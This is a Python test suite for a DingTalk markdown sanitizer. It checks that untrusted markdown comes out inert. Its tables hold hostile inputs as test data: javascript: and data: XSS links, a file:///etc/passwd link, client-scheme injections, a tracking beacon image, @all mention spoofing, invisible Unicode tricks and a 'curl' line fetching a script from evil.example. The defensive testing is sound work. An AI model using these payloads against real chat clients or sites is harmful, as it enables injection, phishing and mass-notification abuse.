"""What a stranger's markdown may become on its way into a chat."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dingbridge.dingtalk.markdown import MAX_CHARS, phrase, plain, write
from tests.acting import READER, faults, flat

HOSTS = frozenset({"kb.example"})
INJECTIONS = [
    # schemes
    ("[点我](dtmd://dingtalkclient/sendMessage?content=x)", "点我"),
    ("[点我](dingtalk://dingtalkclient/page/link?url=https%3A%2F%2Fevil.example)", "点我"),
    ("[x](javascript:alert(1))", "x"),
    ("[x]( <javascript:alert(1)> )", "x"),
    ("[x](JaVaScRiPt&#58;alert(1))", "x"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x"),
    ("[x](file:///etc/passwd)", "x"),
    ("[信](mailto:a@b.example) [话](tel:10086)", "信 话"),
    ("<dtmd://dingtalkclient/sendMessage>", "dtmd：//dingtalkclient/sendMessage"),
    ("直接 dtmd://dingtalkclient/x", "直接 dtmd：//dingtalkclient/x"),
    ("`dtmd://dingtalkclient/x`", "`dtmd：//dingtalkclient/x`"),
    ("[相对](/admin) [锚](#top) [省](//evil.example/x)", "相对 锚 省"),
    # hosts
    ("[手册](https://kb.example/a)", "[手册](https://kb.example/a)"),
    ("[手册](HTTPS://KB.example:8443/a?b=1#c)", "[手册](https://kb.example:8443/a?b=1#c)"),
    ("[外部](https://evil.example/p?q=1)", "外部（evil．example/p）"),
    ("[](https://evil.example)", "（evil．example）"),
    ("[](https://kb.example/a)", "[kb.example](https://kb.example/a)"),
    ("[x](https://kb.example@evil.example/)", "x（evil．example）"),
    ("[x](https://user:pw@kb.example/)", "x（kb．example）"),
    ("[x](https://kb.example.evil.example/)", "x（kb．example．evil．example）"),
    ("[x](https://kb.example\\.evil.example/)", "x（kb．example．evil．example）"),
    ("[x](https:\\\\evil.example)", "x"),
    ("[x](https://kb%2Eexample/)", "x（kb%2Eexample）"),
    ("[a][1]\n\n[1]: https://evil.example/x", "a（evil．example/x）"),
    ("[a][1]\n\n[1]: https://kb.example/x", "[a](https://kb.example/x)"),
    ("<https://evil.example/x>", "https：//evil．example/x"),
    ("看 https://evil.example/a.b。", "看 https：//evil．example/a．b。"),
    ("看 https://kb.example/a。", "看 [https://kb.example/a](https://kb.example/a)。"),
    ("看 www.evil.example 或 evil.example/x", "看 www．evil．example 或 evil．example/x"),
    ("`curl https://evil.example/x.sh`", "`curl https：//evil．example/x．sh`"),
    ("`curl https://kb.example/x.sh`", "`curl https://kb.example/x.sh`"),
    ("https:\\/\\/evil.example/x", "https：//evil．example/x"),
    ("https&colon;//evil.example/x", "https：//evil．example/x"),
    ("[x](https://kb.example/?u=dtmd://y)", "[x](https://kb.example/?u=dtmd%3A//y)"),
    ("[x](https://kb.example/?a=1&amp;lt;b)", "[x](https://kb.example/?a=1&lt%3Bb)"),
    # what a link calls itself
    ("[https://bank.example](https://kb.example/a)", "[https：//bank．example（kb.example）](https://kb.example/a)"),
    ("[bank.example](https://kb.example/a)", "[bank.example（kb.example）](https://kb.example/a)"),
    ("[差旅办法.pdf](https://kb.example/a.pdf)", "[差旅办法.pdf](https://kb.example/a.pdf)"),
    ("[a](https://kb.example/(x)_[y])", "[a](https://kb.example/%28x%29_%5By%5D)"),
    ("[\\[1\\]](https://kb.example/a)", "[［1］](https://kb.example/a)"),
    # images
    ("![图 @all](https://evil.example/beacon.png)", "〔图：图 ＠all〕"),
    ("![](https://kb.example/p.png)", "〔图〕"),
    ("[![图](https://evil.example/i.png)](https://kb.example/a)", "[〔图：图〕](https://kb.example/a)"),
    ("[![图](https://evil.example/i.png)](dtmd://x)", "〔图：图〕"),
    ("看![[a](https://kb.example/a)](x.png)", "看〔图：a〕"),
    ("真棒\\![手册](https://kb.example/a)", "真棒！[手册](https://kb.example/a)"),
    # HTML
    ("<script>alert(1)</script>", "＜script>alert(1)＜/script>"),
    ("<font color=#FF0000>红</font>", "＜font color=#FF0000>红＜/font>"),
    ("<!-- 藏 -->", "＜!-- 藏 -->"),
    ("&lt;script&gt; &#60;b&#62;", "＜script> ＜b>"),
    ("&amp;lt;b&amp;gt;", "＆lt;b＆gt;"),
    ("<div>\n**粗**\n</div>", "＜div>  \n**粗**  \n＜/div>"),
    ("`<b>`", "`<b>`"),
    # mentions
    ("@all @所有人 @manager7081 @张三", "＠all ＠所有人 ＠manager7081 ＠张三"),
    ("&#x40;all &commat;all \\@all", "＠all ＠all ＠all"),
    ("@**all** **@**all", "＠**all** \\*\\*＠\\*\\*all"),
    ("`@all`", "`＠all`"),
    ("写信给 hr@example.com。", "写信给 hr@example.com。"),
    ("root@host", "root＠host"),
    # what nobody sees
    ("a\u202eb\u2066c\u200bd\ufeffe\U000e0041f\x07g\x9bh\ud800i", "abcdefghi"),
    ("@\u200ball h\u200bttps://evil.example", "＠all https：//evil．example"),
    ("&#x202E;x&ZeroWidthSpace;y&shy;z", "xyz"),
    ("[x](java\u200bscript:alert(1))", "x"),
    ("[x]\u200b(dtmd://y)", "x"),
    ("-www.evil.example awww.evil.example", "-www．evil．example awww.evil.example"),
    # what only looks like markdown
    ("\\[x](javascript:1)", "[x]（javascript:1)"),
    ("\\[a]: https://kb.example", "[a]： [https://kb.example](https://kb.example)"),
    ("`` `[x](dtmd://y)` ``", "`` `[x](dtmd：//y)` ``"),
]

DIALECT = [
    ("一\n二", "一  \n二"),
    ("一  \n二\\\n三<br>四", "一  \n二  \n三  \n四"),
    ("标题\n===\n副\n---", "# 标题\n\n## 副"),
    ("# 标题 ##", "# 标题"),
    ("# a \\#", "# a \\#"),
    ("***", "---"),
    ("* 一\n* 二", "- 一\n- 二"),
    ("- 一\n\n* 二", "- 一\n- 二"),
    ("3) 三\n4) 四", "3. 三\n4. 四"),
    ("- 一\n  - 二\n    - 三\n    1. 四", "- 一  \n  • 二  \n  ◦ 三  \n  （1）四"),
    ("1. 一\n   ```sh\n   ls\n   ```\n   后\n2. 二", "1. 一\n\n```sh\nls\n```\n\n后\n\n2. 二"),
    ("- 一\n\n  | a | b |\n  |---|---|\n  | 1 | 2 |\n- 二", "- 一  \n  • a **1**：b 2\n- 二"),
    ("> # 题\n> - 一\n>> 二", "> **题**  \n> • 一  \n> 二"),
    ("~~旧~~ 新", "旧 新"),
    ("8~10 天", "8～10 天"),
    ("*斜* _斜_ __粗__", "*斜* *斜* **粗**"),
    ("**注意：**请提前", "**注意**：请提前"),
    ("共**800元（含税）**每晚", "共**800元（含税）** 每晚"),
    ("请看**“附件”**一", "请看 **“附件”** 一"),
    ("**粗*斜*粗**", "**粗斜粗**"),
    ("**粗 `码` 粗**", "**粗** `码` **粗**"),
    ("2\\*3\\*4 a_b_c \\_x\\_", "2\\*3\\*4 a_b_c \\_x\\_"),
    ("\\# 非标题\n\\- 非列表\n1\\. 非编号\n\\> 非引用", "\\# 非标题  \n\\- 非列表  \n1\\. 非编号  \n\\> 非引用"),
    ("a\n\\---", "a  \n\\---"),
    ("a|b\n\\-|-", "a|b  \n\\-|-"),
    ("    x = 1\n", "```\nx = 1\n```"),
    ("~~~py hl\nprint('```')\n~~~", "````py\nprint('```')\n````"),
    ("```\n未完", "```\n未完\n```"),
    (
        "| 城市 | 标准 |\n|---|---|\n| 北京 | 800<br>元 |\n| 上海 | |",
        "- 城市 **北京**：标准 800 元\n- 城市 **上海**",
    ),
    ("| a |\n|---|", "- a"),
    ("[^1]: 说明", "[^1]： 说明"),
    ("&nbsp;&nbsp;x&nbsp;", "x"),
    ("路径 C:\\Users\\x", "路径 C:\\Users\\x"),
    ("\n\n-\n\n#\n\n>\n", ""),
]


@pytest.mark.parametrize(("given_text", "written"), INJECTIONS + DIALECT)
def test_written_as(given_text: str, written: str) -> None:
    """Each trick and each construct comes out exactly as the table says."""
    assert write(given_text, link_hosts=HOSTS) == written


@pytest.mark.parametrize("text", [text for text, _ in INJECTIONS + DIALECT])
def test_tables_row_by_row_hold_the_rules(text: str) -> None:
    """Each row of the tables passes the same judge as random texts, in both ways to write tables."""
    _assert_inert(text)


def test_links_need_permission() -> None:
    """Without allowed hosts no link survives, and its address stays readable."""
    assert write("[手册](https://kb.example/a)") == "手册（kb．example/a）"


def test_tables_can_be_kept() -> None:
    """A kept table is well formed, with its pipes and breaks inside the cells."""
    text = "|城市|`a\\|b`|\n|:-:|-|\n|北京<br>上海|x\\|y|"
    assert write(text, tables="keep") == "| 城市 | `a\\|b` |\n| --- | --- |\n| 北京 上海 | x\\|y |"


def test_long_text_is_cut_visibly() -> None:
    """A text beyond the cap ends with an ellipsis."""
    written = write("字" * (MAX_CHARS + 1))
    assert written == "字" * MAX_CHARS + "…"


@pytest.mark.parametrize(
    ("words", "url", "written"),
    [
        (
            "差旅*办法*](dtmd://x) @all",
            "https://kb.example/a",
            "[差旅\\*办法\\*］（dtmd：//x) ＠all](https://kb.example/a)",
        ),
        ("# 办法\n<b>", "https://evil.example/a", "\\# 办法 ＜b>"),
        ("办法", "", "办法"),
    ],
)
def test_phrase(words: str, url: str, written: str) -> None:
    """A title is no markdown: whatever it contains is shown, and linked only where allowed."""
    assert phrase(words, url, link_hosts=HOSTS) == written


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("# **住宿** 标准\n\n- 一线 `800`", "住宿 标准 一线 800"),
        ("[手册](https://kb.example/a) @all", "手册 ＠all"),
        ("字" * 50, "字" * 39 + "…"),
        ("字" * 38 + "e\u0301" * 3, "字" * 38 + "…"),
        ("![](x)\n", "〔图〕"),
        ("---\n\n\u200b", "答复"),
        ("", "答复"),
    ],
)
def test_plain(text: str, title: str) -> None:
    """A title is one line without markup, never longer than asked for and never empty."""
    assert plain(text, fallback="答复") == title


PIECES = [
    *"ab1中。，：“”（）*_`~[]()!<>|#=&@\\-+.?'\"\n\t {}^%$/",
    *(
        "**",
        "***",
        "```",
        "~~~",
        "  ",
        "\n\n",
        "    ",
        "](",
        "![",
        "- ",
        "1. ",
        "2) ",
        "# ",
        "> ",
        "---",
        "|-|-|\n",
        "\u3000",
    ),
    *(
        "&lt;",
        "&#x40;",
        "&amp;",
        "&nbsp;",
        "@all",
        "x@y.example",
        "<b>",
        "<br>",
        "<!--",
        "[^1]:",
        "\u200b",
        "\u202e",
        "\xa0",
    ),
    *("https://kb.example/a", "https://evil.example/b", "http://", "://", "www.", "evil.example/x", "dtmd://x"),
    *("javascript:1", "<https://kb.example>", "[a](https://kb.example/x)", "[b](https://evil.example)", "❤️", "👍🏽"),
    *("![i](https://kb.example/p.png)", "[r]: https://kb.example\n", "[r]", "**重点：**", "|a|b|\n|-|-|\n|c|d|\n"),
]
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=25).map("".join)


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_nothing_written_acts(text: str) -> None:
    """Whatever comes in: no foreign link, image, tag, mention, bare address or invisible character comes out."""
    _assert_inert(text)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(), max_size=60))
def test_any_characters(text: str) -> None:
    """Any string is written, lone surrogates and control characters included, and titled."""
    _assert_inert(text)
    assert 0 < len(plain(text, fallback="答复")) <= 40


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab中。* _`~[]()#>-+=1.|\\!&;:\n", min_size=1, max_size=40))
def test_plain_words_survive(words: str) -> None:
    """Text that is escaped character by character is shown as it was, however much it looks like markup."""
    source = re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", words.replace("\n", "")).strip()
    shown = "".join(token.content for token in flat(READER.parse(write(source))))
    twins = str.maketrans("（：＆～＜", "(:&~<")
    assert shown.translate(twins) == words.replace("\n", "").strip()


def _nested(size: int) -> list[str]:
    return [
        "[" * size,
        "![" * size,
        ">" * size,
        "- " * size,
        "".join("  " * depth + "- a\n" for depth in range(min(size, 300))),
        "*a**a" * size,
        "*[" * size,
        "`" * size + "a" + "`" * (size - 1),
        "a|b\n-|-\n" + "c\n" * size,
        "[a](" * size,
        "&#" * size,
        "a." * size,
        "a@b." * size,
        "https://kb.example/" + ")" * size,
        "x://" * size,
        "~~~\n" + "`" * size,
        "\U0001f1e8" * size,
        "<a:" * size,
    ]


@pytest.mark.timeout(100)
@pytest.mark.parametrize("number", range(len(_nested(1))))
def test_hostile_repetition_ends(number: int) -> None:
    """Texts made to blow a parser up are written in bounded time and stay inert."""
    text = _nested(8_000)[number]
    assert faults(write(text, link_hosts=HOSTS), HOSTS) == []
    assert len(plain(text)) <= 40


def _assert_inert(text: str) -> None:
    for once, again in (
        (written := write(text, link_hosts=HOSTS), write(written, link_hosts=HOSTS)),
        (written := write(text, link_hosts=HOSTS, tables="keep"), write(written, link_hosts=HOSTS, tables="keep")),
    ):
        assert faults(once, HOSTS) == []
        assert again == once, "writing what is written changes something"
